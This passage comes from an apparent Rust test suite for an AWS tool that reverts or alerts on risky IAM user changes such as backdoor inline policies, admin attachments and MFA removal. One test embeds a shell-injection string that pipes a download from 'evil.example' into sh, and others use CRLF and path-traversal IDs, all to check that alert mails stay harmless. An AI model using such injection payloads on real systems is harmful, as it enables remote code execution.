    scene.stage.run(&process, &event).await.is(Violation, &[], &gone);
    scene.run_late(&event).await.is(Violation, &[Alert], &[&gone[..], &[publish()]].concat());
}

#[tokio::test]
async fn an_inline_policy_is_known_by_what_it_says() {
    let scene = Scene::new().await;
    scene.create_user().await;
    // The same in another spelling.
    let event = scene.put("backdoor", ALLOW_ALL).await;
    let spelled = r#"{ "Statement": [{"Resource": "*", "Action": "*", "Effect": "Allow"}], "Version": "2012-10-17" }"#;
    scene.put("backdoor", spelled).await;
    scene.run(&event).await.mail_says(&["REVERTED"]);
    // Overwritten since.
    let event = scene.put("backdoor", ALLOW_ALL).await;
    for other in [DENY_S3, &ALLOW_ALL.replace("\"Action\":\"*\"", "\"Action\":\"s3:*\"")] {
        scene.put("backdoor", other).await;
        let ran = scene.run_late(&event).await;
        assert_eq!(ran.handled.error, None);
        ran.mail_says(&["ALERT", "overwritten since", "Nothing was changed."]);
        assert_eq!(scene.inline().await, ["backdoor"]);
    }
}

#[tokio::test]
async fn an_inline_policy_is_looked_for_until_it_shows() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let event = scene.put("backdoor", ALLOW_ALL).await;
    scene.fault("GetUserPolicy", "NoSuchEntity", 404, 2);
    let ran = scene.run(&event).await;
    assert_eq!((ran.handled.error.clone(), scene.inline().await.len()), (None, 0), "{ran:#?}");
    ran.mail_says(&["REVERTED"]);
}

#[tokio::test]
async fn an_inline_policy_that_only_denies_stays() {
    let scene = Scene::new().await;
    scene.create_user().await;
    for (name, document) in [("mfa", DENY_S3), (CONTAINMENT, DENY_EVERYTHING)] {
        let event = scene.put(name, document).await;
        scene.run(&event).await.is(Ignored, &[], &[]);
    }
    let event = scene.put("AWSExposedCredentialPolicy_DO_NOT_REMOVE", DENY_S3).await;
    let ran = scene.run(&event).await;
    ran.is(Violation, &[Alert], &[publish()]);
    ran.mail_says(&["CRITICAL"]);
    assert_eq!(scene.inline().await.len(), 3);
}

#[tokio::test]
async fn an_attackers_policy_under_our_name_goes() {
    let scene = Scene::new().await;
    let user_made = scene.create_user().await;
    let event = scene.put(CONTAINMENT, ALLOW_ALL).await;
    scene.run(&event).await.mail_says(&["REVERTED"]);
    assert!(scene.inline().await.is_empty());
    // And if it is there when the user is deleted, it is overwritten.
    scene.put(CONTAINMENT, ALLOW_ALL).await;
    let ran = scene.run(&user_made).await;
    ran.is_in_rounds(Violation, &[Reverted], &scene.plain_rounds());
}

#[tokio::test]
async fn nothing_is_taken_back_unless_the_settings_say_so() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let own = scene.iam.create_policy().policy_name(format!("p-{}", unique())).policy_document(ALLOW_ALL);
    let own = own.send().await.unwrap().policy.unwrap().arn.unwrap();
    let events = [
        scene.create_password().await,
        scene.attach(ADMINISTRATOR).await,
        scene.attach(&own).await,
        scene.put("backdoor", ALLOW_ALL).await,
    ];
    for event in &events {
        for settings in [[("IAM_USER_MODE", "alert")], [("ROLLOUT", "observe")]] {
            let ran = scene.stage.run(&scene.process(&settings), event).await;
            assert_eq!(ran.handled.error, None);
            ran.mail_says(&["ALERT", "Nothing was changed, because"]);
        }
        let ran = scene.stage.run(&scene.process(&trusting_developer()), event).await;
        assert_eq!((ran.handled.verdict == Violation, ran.mails.len()), (false, 0), "{ran:#?}");
    }
    assert!(scene.has_password().await && scene.attached().await.len() == 2 && scene.inline().await.len() == 1);
}

// ---------------------------------------------------------------------------------------------------------
// What is only told

#[tokio::test]
async fn what_is_only_told_changes_nothing() {
    let scene = Scene::new().await;
    let user = json!({"userName": scene.name});
    for (name, request, severity) in [
        ("AddUserToGroup", json!({"userName": scene.name, "groupName": "admins"}), "HIGH"),
        ("DeleteVirtualMFADevice", json!({"serialNumber": format!("arn:aws:iam::{ACCOUNT}:mfa/phone")}), "MEDIUM"),
        ("DeleteUserPermissionsBoundary", user, "HIGH"),
        ("DeleteAccountPasswordPolicy", Value::Null, "MEDIUM"),
    ] {
        let event = event("iam", name, request, Value::Null);
        let process = scene.process(&[]);
        let ran = scene.stage.run(&process, &event).await;
        ran.is(Violation, &[Alert], &[publish()]);
        ran.mail_says(&[&format!("ALERT: {severity}: ")]);
        scene.stage.run(&process, &event).await.is(Violation, &[], &[]);
        scene.stage.run(&scene.process(&trusting_developer()), &event).await.is(Exempt, &[], &[]);
    }
}

#[tokio::test]
async fn taking_mfa_from_a_user_is_told_unless_the_user_goes() {
    let scene = Scene::new().await;
    let user_made = scene.create_user().await;
    let phone = scene.create_phone().await;
    let request = json!({"userName": scene.name, "serialNumber": phone});
    let deactivated = event("iam", "DeactivateMFADevice", request, Value::Null);
    let deleted = event("iam", "DeleteVirtualMFADevice", json!({"serialNumber": phone}), Value::Null);
    let process = scene.process(&[]);
    scene.stage.run(&process, &deactivated).await.is(Violation, &[Alert], &[scene.get_user(), publish()]);
    // It can't be seen whether the user is still there: told as well.
    scene.deny("GetUser", 1);
    let ran = scene.run(&deactivated).await;
    ran.is(Violation, &[Alert], &[refused(scene.get_user(), 403), publish()]);
    scene.stage.run(&process, &user_made).await.mail_says(&["REVERTED"]);
    // What the process did itself. EventBridge delivers it as an event of its own.
    let again = |event: &Value, id: &str| changed(event.clone(), "/detail/eventID", json!(id));
    let ran = scene.stage.run(&process, &again(&deactivated, "own-1")).await;
    ran.is(Ignored, &[], &[]);
    scene.stage.run(&process, &again(&deleted, "own-2")).await.is(Ignored, &[], &[]);
    // Another process finds the user gone, and does not know who deleted it.
    let ran = scene.run(&deactivated).await;
    ran.is(Violation, &[Alert], &[refused(scene.get_user(), 404), publish()]);
    ran.mail_says(&["ALERT: LOW: "]);
    // The same call an hour later is another one.
    let later = written_at(Utc::now() + TimeDelta::try_hours(1).unwrap());
    let ran = scene.stage.run(&process, &changed(again(&deleted, "later"), "/detail/eventTime", later)).await;
    ran.is(Violation, &[Alert], &[publish()]);
    scene.run(&deleted).await.is(Violation, &[Alert], &[publish()]);
}

// ---------------------------------------------------------------------------------------------------------
// Findings of AWS Config

const NO_POLICIES: &str = "IAM_USER_NO_POLICIES_CHECK";
const REVERT_FINDINGS: &[(&str, &str)] = &[("CONFIG_FINDINGS", "revert")];

/// A user, and a rule of AWS Config of its own.
struct Found {
    scene: Scene,
    id: String,
    rule: String,
}

impl Found {
    async fn new() -> Self {
        Self::of(Scene::new().await).await
    }

    async fn of(scene: Scene) -> Self {
        scene.create_user().await;
        let id = scene.user_id().await.unwrap();
        let rule = format!("securityhub-users-{}", unique());
        scene.stage.config_rule(&rule, NO_POLICIES, None).await;
        Self { scene, id, rule }
    }

    fn finding(&self) -> Value {
        config_finding(&self.rule, "AWS::IAM::User", &self.id)
    }

    async fn run(&self, settings: &[(&str, &str)]) -> Ran {
        self.scene.stage.run(&self.scene.process(settings), &self.finding()).await
    }

    fn identify(&self) -> String {
        described(&self.rule)
    }

    /// The look at the user and at its policies, of which there are these.
    fn look(&self, attached: &[&str], inline: &[&str]) -> Vec<String> {
        let lists = ["GetUser", "ListAttachedUserPolicies", "ListUserPolicies"];
        let inline = inline.iter().map(|name| self.scene.call("GetUserPolicy", &[("PolicyName", name)]));
        lists.iter().map(|action| self.scene.call(action, &[])).chain(inline).chain(documents(attached)).collect()
    }
}

/// The question for what is behind a rule's name.
fn described(rule: &str) -> String {
    expected("DescribeConfigRules", &[("ConfigRuleNames", &json!([rule]).to_string())])
}

/// The look at policies of AWS's.
fn documents(arns: &[&str]) -> Vec<String> {
    let version = |arn: &str| if arn == ADMINISTRATOR { "v1" } else { "" };
    let of = |arn: &&str| {
        let get = expected("GetPolicy", &[("PolicyArn", arn)]);
        [get, expected("GetPolicyVersion", &[("PolicyArn", arn), ("VersionId", version(arn))])]
    };
    arns.iter().flat_map(of).collect()
}

#[tokio::test]
async fn all_policies_of_its_own_go_that_allow_something_and_no_others() {
    let found = Found::new().await;
    let scene = &found.scene;
    scene.attach(ADMINISTRATOR).await;
    scene.attach(QUARANTINE).await;
    scene.put("backdoor", ALLOW_ALL).await;
    scene.put("another", DENY_S3).await;
    scene.put(CONTAINMENT, DENY_EVERYTHING).await;
    scene.create_password().await;
    let key = scene.create_key().await;
    let group = scene.join_group().await;
    let boundary = scene.iam.put_user_permissions_boundary().user_name(&scene.name).permissions_boundary(READ_ONLY);
    boundary.send().await.unwrap();
    let ran = found.run(REVERT_FINDINGS).await;
    let inline = [CONTAINMENT, "another", "backdoor"];
    ran.is_in_rounds(
        Violation,
        &[Reverted],
        &[
            vec![found.identify()],
            vec![list_users()],
            found.look(&[ADMINISTRATOR], &inline),
            vec![
                scene.call("DeleteUserPolicy", &[("PolicyName", "backdoor")]),
                scene.call("DetachUserPolicy", &[("PolicyArn", ADMINISTRATOR)]),
            ],
            found.look(&[], &inline[..2]),
            vec![publish()],
        ],
    );
    ran.mail_says(&[
        &format!("policies taken off IAM user: {}", scene.name),
        "non-compliant.",
        "  - attached: arn:aws:iam::aws:policy/AdministratorAccess",
        "  - inline: backdoor",
        "Detached policy arn:aws:iam::aws:policy/AdministratorAccess.",
        &format!("aws iam put-user-policy --user-name {} --policy-name backdoor --policy-document '{{", scene.name),
        &format!("aws iam attach-user-policy --user-name {} --policy-arn {ADMINISTRATOR}", scene.name),
        "Not known: the finding does not tell.",
    ]);
    // What the mail says puts the policy back.
    let body = &ran.mail().body;
    let document = body.lines().find_map(|line| line.split_once("--policy-document '")?.1.strip_suffix('\''));
    assert_eq!(rules::policy::parse(&json!(document)).unwrap(), rules::policy::parse(&json!(ALLOW_ALL)).unwrap());
    assert_eq!((scene.attached().await, scene.inline().await.len()), (vec![QUARANTINE.to_owned()], 2));
    assert!(scene.has_password().await && scene.has_active_key().await && scene.is_denied().await, "{key}");
    let user = scene.iam.get_user().user_name(&scene.name).send().await.unwrap().user.unwrap();
    assert_eq!(user.permissions_boundary.unwrap().permissions_boundary_arn.as_deref(), Some(READ_ONLY));
    let groups = scene.iam.list_groups_for_user().user_name(&scene.name).send().await.unwrap().groups;
    assert_eq!(groups.iter().map(|group| group.group_name.as_str()).collect::<Vec<_>>(), [group.as_str()]);
}

#[tokio::test]
async fn findings_are_only_told_unless_both_settings_say_otherwise() {
    let found = Found::new().await;
    let scene = &found.scene;
    scene.attach(ADMINISTRATOR).await;
    scene.put("backdoor", ALLOW_ALL).await;
    let calls =
        [vec![found.identify(), list_users()], found.look(&[ADMINISTRATOR], &["backdoor"]), vec![publish()]].concat();
    for (settings, why) in [
        (vec![], "because ConfigFindings is `alert`"),
        (vec![("CONFIG_FINDINGS", "revert"), ("IAM_USER_MODE", "alert")], "because IamUserMode is `alert`"),
        (vec![("CONFIG_FINDINGS", "revert"), ("ROLLOUT", "observe")], "because Rollout is `observe`"),
    ] {
        let ran = found.run(&settings).await;
        ran.is(Violation, &[Alert], &calls);
        ran.mail_says(&[
            why,
            &format!("aws iam detach-user-policy --user-name {} --policy-arn {ADMINISTRATOR}", scene.name),
            &format!("aws iam delete-user-policy --user-name {} --policy-name backdoor", scene.name),
        ]);
    }
    assert_eq!(
        (scene.attached().await, scene.inline().await),
        (vec![ADMINISTRATOR.to_owned()], vec!["backdoor".to_owned()])
    );
    let ran = found.run(&[("CONFIG_FINDINGS", "revert"), ("IAM_USER_MODE", "off")]).await;
    ran.is(Ignored, &[], &[]);
}

/// The other user's name is the id that is looked for.
#[tokio::test]
async fn the_right_user_is_found_by_its_id_on_the_third_page() {
    let options = StandInOptions { page_size: NonZeroU32::new(1) };
    let stand_in = StandIn::start_with(options, &mut |_| {}).unwrap();
    let mut found = Found::of(Scene::of(Stage::on(&stand_in).await)).await;
    let iam = found.scene.iam.clone();
    let others = [found.id.clone(), "bob".to_owned()];
    for other in &others {
        iam.create_user().user_name(other).send().await.unwrap();
        iam.attach_user_policy().user_name(other).policy_arn(ADMINISTRATOR).send().await.unwrap();
    }
    // The stand-in lists last whoever got its name last.
    found.scene.rename("zoe").await;
    found.scene.name = "zoe".to_owned();
    found.scene.attach(ADMINISTRATOR).await;
    let ran = found.run(REVERT_FINDINGS).await;
    ran.mail_says(&["REVERTED: policies taken off IAM user: zoe"]);
    assert_eq!(ran.told().iter().filter(|call| call.starts_with("ListUsers")).count(), 3, "{:#?}", ran.told());
    assert_eq!(found.scene.attached().await, Vec::<String>::new());
    for other in &others {
        let left = iam.list_attached_user_policies().user_name(other).send().await.unwrap();
        assert_eq!(left.attached_policies().len(), 1, "{other}");
    }
}

#[tokio::test]
async fn what_cloudtrail_told_before_is_not_told_again() {
    let found = Found::new().await;
    let event = found.scene.attach(ADMINISTRATOR).await;
    let process = found.scene.process(REVERT_FINDINGS);
    found.scene.stage.run(&process, &event).await.mail_says(&["REVERTED"]);
    let calls = [vec![found.identify(), list_users()], found.look(&[], &[])].concat();
    found.scene.stage.run(&process, &found.finding()).await.is(Ignored, &[], &calls);
    // Known by now; and once more the same.
    let again = found.scene.stage.run(&process, &found.finding()).await;
    again.is(Ignored, &[], &calls[1..]);
}

#[tokio::test]
async fn a_user_that_is_gone_or_fine_is_not_told() {
    let found = Found::new().await;
    found.scene.put("another", DENY_S3).await;
    let calls = [vec![found.identify(), list_users()], found.look(&[], &["another"])].concat();
    found.run(REVERT_FINDINGS).await.is(Ignored, &[], &calls);
    found.scene.iam.delete_user_policy().user_name(&found.scene.name).policy_name("another").send().await.unwrap();
    found.scene.delete_user().await;
    found.run(REVERT_FINDINGS).await.is(Ignored, &[], &[found.identify(), list_users()]);
}

#[tokio::test]
async fn only_its_own_rule_is_for_the_function() {
    let found = Found::new().await;
    found.scene.attach(ADMINISTRATOR).await;
    for identifier in ["ACCESS_KEYS_ROTATED", "IAM_USER_MFA_ENABLED", "IAM_USER_GROUP_MEMBERSHIP_CHECK"] {
        let rule = format!("iam-user-no-policies-check-{}", unique());
        let parameters = (identifier == "ACCESS_KEYS_ROTATED").then_some(r#"{"maxAccessKeyAge":"90"}"#);
        found.scene.stage.config_rule(&rule, identifier, parameters).await;
        let finding = config_finding(&rule, "AWS::IAM::User", &found.id);
        let ran = found.scene.stage.run(&found.scene.process(REVERT_FINDINGS), &finding).await;
        ran.is(Ignored, &[], &[described(&rule)]);
    }
    for compliance in ["COMPLIANT", "NOT_APPLICABLE", "INSUFFICIENT_DATA"] {
        let finding = changed(found.finding(), "/detail/newEvaluationResult/complianceType", json!(compliance));
        let ran = found.scene.stage.run(&found.scene.process(REVERT_FINDINGS), &finding).await;
        ran.is(Ignored, &[], &[]);
    }
    assert_eq!(found.scene.attached().await, [ADMINISTRATOR]);
}

#[tokio::test]
async fn what_is_no_users_id_is_told_and_nobody_is_looked_for() {
    let found = Found::new().await;
    for resource in ["AIDA", "eve\r\nREVERTED", "../AIDAQRSTUVWXYZEXAMPLE", &"AIDA".repeat(2_500)] {
        let finding = config_finding(&found.rule, "AWS::IAM::User", resource);
        let ran = found.scene.stage.run(&found.scene.process(REVERT_FINDINGS), &finding).await;
        ran.is(Unreadable, &[Alert], &[found.identify(), publish()]);
        ran.mail_says(&["`resourceId` in `detail` is not the id of an IAM user", "Look at the resource"]);
        assert!(ran.mail().body.len() < 4_000, "{}", ran.mail().body);
    }
}

#[tokio::test]
async fn what_is_refused_is_told_and_tried_again() {
    let found = Found::new().await;
    let scene = &found.scene;
    scene.attach(ADMINISTRATOR).await;
    scene.put("backdoor", ALLOW_ALL).await;
    scene.deny("DetachUserPolicy", 1);
    let ran = found.run(REVERT_FINDINGS).await;
    assert!(ran.handled.error.is_some(), "{ran:#?}");
    ran.mail_says(&[
        "FAILED - ACT NOW: policies may still be on IAM user",
        "`DetachUserPolicy` failed: AccessDenied",
        "Deleted inline policy backdoor.",
        "--policy-name backdoor --policy-document '{",
    ]);
    assert_eq!((scene.attached().await, scene.inline().await.len()), (vec![ADMINISTRATOR.to_owned()], 0));
    for (action, said) in [("ListUsers", "could not be read"), ("GetPolicyVersion", "could not be read")] {
        scene.deny(action, 1);
        let ran = found.run(REVERT_FINDINGS).await;
        ran.mail_says(&["FAILED - ACT NOW", said, &format!("`{action}` failed: AccessDenied")]);
        assert_eq!(scene.attached().await, [ADMINISTRATOR]);
    }
    found.run(REVERT_FINDINGS).await.mail_says(&["REVERTED"]);
    assert_eq!(scene.attached().await, Vec::<String>::new());
}

/// The name is another's by the time that it is looked at.
#[tokio::test]
async fn a_user_that_is_renamed_meanwhile_is_found_again() {
    let found = Found::new().await;
    let scene = &found.scene;
    scene.attach(ADMINISTRATOR).await;
    let new = format!("{}-new", scene.name);
    let (iam, old) = (&scene.iam, &scene.name);
    scene.stage.inject(Fault { code: None, delay_seconds: 1.0, ..Fault::new("", "GetUser", "") });
    let process = scene.process(REVERT_FINDINGS);
    let finding = found.finding();
    let rename = async {
        while !scene.stage.all_calls().iter().any(|call| call.action == "GetUser") {
            sleep(Duration::from_millis(20)).await;
        }
        scene.rename(&new).await;
        iam.create_user().user_name(old).send().await.unwrap();
        iam.attach_user_policy().user_name(old).policy_arn(READ_ONLY).send().await.unwrap();
    };
    let ran = tokio::join!(scene.stage.run(&process, &finding), rename).0;
    ran.mail_says(&["REVERTED", &format!("policies taken off IAM user: {new}")]);
    assert_eq!(scene.attached().await, [READ_ONLY]);
    let left = iam.list_attached_user_policies().user_name(&new).send().await.unwrap();
    assert_eq!(left.attached_policies().len(), 0);
}

/// Whatever a document says, a shell does nothing of it, and it comes back as it was.
#[tokio::test]
async fn a_hostile_document_is_kept_harmless_and_whole() {
    let found = Found::new().await;
    let scene = &found.scene;
    let sid = "'; curl evil.example | sh; '\u{202e}";
    let statement =
        json!({"Effect": "Allow", "Action": "s3:*", "Resource": "*", "Condition": {"StringEquals": {"aws:x": sid}}});
    let hostile = json!({"Version": "2012-10-17", "Statement": [statement]});
    let long: Vec<Value> = (0..12)
        .map(|n| {
            json!({"Sid": format!("s{n}"), "Effect": "Allow", "Action": "s3:GetObject",
        "Resource": format!("arn:aws:s3:::{n}{}/*", "b".repeat(66))})
        })
        .collect();
    let long = json!({"Version": "2012-10-17", "Statement": long});
    scene.put("hostile", &hostile.to_string()).await;
    scene.put("long", &long.to_string()).await;
    let ran = found.run(REVERT_FINDINGS).await;
    ran.mail_says(&["REVERTED"]);
    let body = &ran.mail().body;
    assert!(!body.contains("'; curl") && !body.contains('\u{202e}'), "{body}");
    let command = body.lines().find_map(|line| line.split_once("--policy-document '")?.1.strip_suffix('\'')).unwrap();
    assert_eq!(serde_json::from_str::<Value>(command).unwrap(), hostile);
    let lines = body.lines().skip_while(|line| !line.ends_with("where policy.json is:")).skip(1);
    let document: Vec<&str> = lines.take_while(|line| !line.is_empty() && !line.contains("aws iam")).collect();
    assert_eq!(serde_json::from_str::<Value>(&document.join("\n")).unwrap(), long, "{body}");
}
